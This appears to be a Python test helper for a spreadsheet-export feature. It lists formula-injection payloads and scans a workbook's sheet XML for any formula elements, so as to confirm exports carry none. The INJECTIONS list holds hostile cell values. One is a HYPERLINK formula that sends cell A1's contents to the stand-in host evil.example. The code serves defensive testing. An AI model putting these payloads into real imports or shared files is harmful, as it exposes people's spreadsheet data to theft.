"""Read an exported workbook the way an attacker hopes Excel will: any formula in the raw sheet XML."""

import re
import zipfile
from io import BytesIO

# What an import might carry into a cell, hoping a spreadsheet evaluates it.
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


def formulas(data: bytes) -> list[str]:
    """Every <f> element of every sheet, as raw XML: an exported workbook must have none."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return [
            found
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for found in re.findall(r"<f[ >].*?</f>|<f/>", archive.read(name).decode())
        ]


def as_read(text: str) -> str:
    """What a reader gets back: XML turns a bare CR into a line feed (it is still text)."""
    return text.replace("\r", "\n")
